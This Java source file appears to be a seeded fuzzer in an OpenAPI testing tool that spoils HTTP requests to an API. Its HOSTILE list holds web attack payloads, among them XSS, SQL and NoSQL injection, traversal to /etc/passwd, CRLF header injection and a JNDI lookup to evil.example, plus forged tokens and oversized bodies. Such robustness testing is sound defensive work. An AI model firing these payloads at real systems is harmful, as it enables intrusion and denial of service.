package sauda.local.openapi;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.UUID;
import sauda.local.openapi.Document.Operation;
import sauda.local.openapi.RawHttp.Sent;

/// Requests that are made from the page and then spoiled, the same for the same seed.
final class Fuzz {

    static final List<String> HOSTILE = List.of(
            "-1",
            "0",
            "99999999999999999999999999",
            "1e400",
            "NaN",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' OR '1'='1' --",
            "{\"$gt\":\"\"}",
            "../../../../etc/passwd",
            "..%2f..%2fetc%2fpasswd",
            "${jndi:ldap://evil.example/x}",
            "{{7*7}}",
            "\u0000",
            "\r\nset-cookie: x=1",
            "नमस्ते",
            "\uD83D\uDE80",
            "*",
            "",
            " ",
            "null",
            "true",
            "claude#",
            "claude|gpt",
            "ACCOUNT#claude",
            "x".repeat(600),
            "9".repeat(5_000));

    /// As they stand in a path or a query, not encoded again.
    private static final List<String> TORN = List.of("%", "%z", "%zz", "%00", "%c0%ae", "%ff", "%2", "%%", "%E0%A4%A");

    private static final List<String> METHODS =
            List.of("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "FOO", "get", "PROPFIND");

    private static final List<String> TYPES = List.of(
            "text/plain",
            "application/xml",
            "multipart/form-data; boundary=x",
            "application/x-www-form-urlencoded",
            "application/jsonp",
            "application/json, text/html",
            "\"",
            "application/json; charset=utf-16");

    private static final int DEEP = 20_000;
    private static final int ONE_IN_BIG = 400;
    private static final int[] BIG = {10 * 1024 * 1024, 11 * 1024 * 1024};

    private final Document page;
    private final Samples samples;
    private final List<Forger.Bad> badTokens;
    private final List<Operation> writes;
    private final List<String> cursors;
    private final Random random;

    Fuzz(Document page, Samples samples, List<Forger.Bad> badTokens, long seed) {
        this.page = page;
        this.samples = samples;
        this.badTokens = badTokens;
        this.writes = page.operations().stream().filter(Operation::isWrite).toList();
        this.cursors = samples.cursors();
        this.random = new Random(seed);
    }

    /// A request, and what is known of it beforehand.
    ///
    /// @param isKnown  whether method and path are the operation's own
    /// @param badToken what is wrong with its token, empty when it is good
    record Shot(Operation operation, boolean isKnown, String badToken, Sent sent) {}

    /// @param token a good one, which may be spoiled
    Shot next(String token) {
        // what changes something is asked for more often than there are routes for it
        Operation operation = any(oneIn(3) ? writes : page.operations());
        String method = oneIn(8) ? any(METHODS) : operation.method();
        boolean spoiledPath = oneIn(4);
        String path = spoiledPath ? spoiled(operation.path()) : any(samples.paths(operation));
        String target = path + query(operation);
        List<String> headers = new ArrayList<>();
        String badToken = "";
        if (oneIn(10)) {
            Forger.Bad bad = any(badTokens);
            badToken = bad.name();
            headers.add("Authorization: Bearer " + bad.token());
        } else if (oneIn(20)) {
            badToken = "absent";
        } else {
            headers.add("Authorization: Bearer " + token);
        }
        if (operation.isWrite() && !oneIn(10)) {
            headers.add("Content-Type: " + (oneIn(10) ? any(TYPES) : "application/json"));
        }
        if (operation.isWrite() ? !oneIn(6) : oneIn(6)) {
            headers.add("Idempotency-Key: "
                    + (!oneIn(4) ? new UUID(random.nextLong(), random.nextLong()).toString() : header(any(HOSTILE))));
        }
        if (oneIn(6)) {
            headers.add("If-None-Match: " + (oneIn(2) ? "*" : "\"" + header(any(HOSTILE)) + "\""));
        }
        if (oneIn(10)) {
            headers.add("Origin: " + (oneIn(2) ? "https://evil.example" : header(any(HOSTILE))));
        }
        byte[] body = operation.isWrite() || oneIn(20) ? body(operation) : new byte[0];
        return new Shot(
                operation,
                method.equals(operation.method()) && !spoiledPath,
                badToken,
                new Sent(method, target, headers, body));
    }

    private String spoiled(String path) {
        if (oneIn(6)) {
            return path
                    + any(List.of("/", "/..", "/../../config.json", "//", "/%2e%2e/", ";x=1", "%2f", "/" + any(TORN)));
        }
        String spoiled = path;
        while (spoiled.contains("{")) {
            String value = oneIn(3) ? any(TORN) : Samples.encoded(any(HOSTILE));
            spoiled = spoiled.substring(0, spoiled.indexOf('{')) + value + spoiled.substring(spoiled.indexOf('}') + 1);
        }
        return spoiled;
    }

    private String query(Operation operation) {
        List<String> pairs = new ArrayList<>();
        for (JsonNode parameter : operation.parameters("query")) {
            if (oneIn(3)) {
                pairs.add(parameter.path("name").asText() + "=" + value(parameter));
            }
        }
        if (oneIn(12)) {
            pairs.add(Samples.encoded(any(HOSTILE)) + "=" + Samples.encoded(any(HOSTILE)));
        }
        if (!pairs.isEmpty() && oneIn(10)) {
            pairs.add(any(pairs));
        }
        return pairs.isEmpty() ? oneIn(40) ? "?" + any(TORN) : "" : "?" + String.join("&", pairs);
    }

    private String value(JsonNode parameter) {
        return switch (random.nextInt(5)) {
            case 0 -> any(TORN);
            case 1, 2 -> Samples.encoded(any(HOSTILE));
            default -> parameter.path("name").asText().equals("cursor") ? cursor() : any(samples.values(parameter));
        };
    }

    /// One that a list gave, though seldom this one, or one with a character changed.
    private String cursor() {
        String given = any(cursors);
        int at = random.nextInt(given.length());
        return oneIn(2) ? given : given.substring(0, at) + any(List.of("A", "z", "_", "%00")) + given.substring(at + 1);
    }

    private byte[] body(Operation operation) {
        if (oneIn(ONE_IN_BIG)) {
            return ("{\"because\":\"" + "x".repeat(BIG[random.nextInt(BIG.length)]) + "\"}")
                    .getBytes(StandardCharsets.US_ASCII);
        }
        if (!operation.isWrite()) {
            return any(HOSTILE).getBytes(StandardCharsets.UTF_8);
        }
        String good = any(samples.bodies(operation));
        return switch (random.nextInt(12)) {
            case 0 -> good.substring(0, random.nextInt(good.length() + 1)).getBytes(StandardCharsets.UTF_8);
            case 1 -> ("[".repeat(DEEP) + "]".repeat(DEEP)).getBytes(StandardCharsets.US_ASCII);
            case 2 -> ("{\"because\":".repeat(DEEP) + "1" + "}".repeat(DEEP)).getBytes(StandardCharsets.US_ASCII);
            case 3 -> twice(good).getBytes(StandardCharsets.UTF_8);
            case 4 -> new byte[] {(byte) 0xff, (byte) 0xfe, 0, '{', (byte) 0x80, '}'};
            case 5 -> any(HOSTILE).getBytes(StandardCharsets.UTF_8);
            default -> changed(operation, good).getBytes(StandardCharsets.UTF_8);
        };
    }

    /// The first field of an object once more.
    private static String twice(String object) {
        String inside = object.strip().substring(1, object.strip().length() - 1);
        return "{" + inside + "," + inside.split(",", 2)[0] + "}";
    }

    /// With a field less, more, or of another kind, by the schema of the page.
    private String changed(Operation operation, String good) {
        ObjectNode body = (ObjectNode) Document.tree(good);
        JsonNode schema = page.resolved(operation.node().at("/requestBody/content/application~1json/schema"));
        List<String> fields = new ArrayList<>();
        schema.path("properties").fieldNames().forEachRemaining(fields::add);
        for (int i = random.nextInt(3); i > 0; i--) {
            String field = any(fields);
            switch (random.nextInt(6)) {
                case 0 -> body.remove(field);
                case 1 -> body.put("x" + field, "unknown");
                case 2 -> body.put(field, any(HOSTILE));
                case 3 -> body.put(field, random.nextLong());
                case 4 ->
                    body.set(
                            field,
                            any(List.of(
                                    JsonNodeFactory.instance.nullNode(),
                                    JsonNodeFactory.instance.arrayNode().add(1),
                                    JsonNodeFactory.instance.objectNode().put("$ne", 1),
                                    JsonNodeFactory.instance.booleanNode(true),
                                    JsonNodeFactory.instance.numberNode(1.5))));
                default -> body.put(field, -random.nextInt(1_000));
            }
        }
        return body.toString();
    }

    /// Header lines end where a line ends; the rest of a hostile value may stand there.
    private static String header(String value) {
        return new String(value.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1).replaceAll("[\r\n]", "");
    }

    private boolean oneIn(int many) {
        return random.nextInt(many) == 0;
    }

    private <T> T any(List<T> all) {
        return all.get(random.nextInt(all.size()));
    }
}
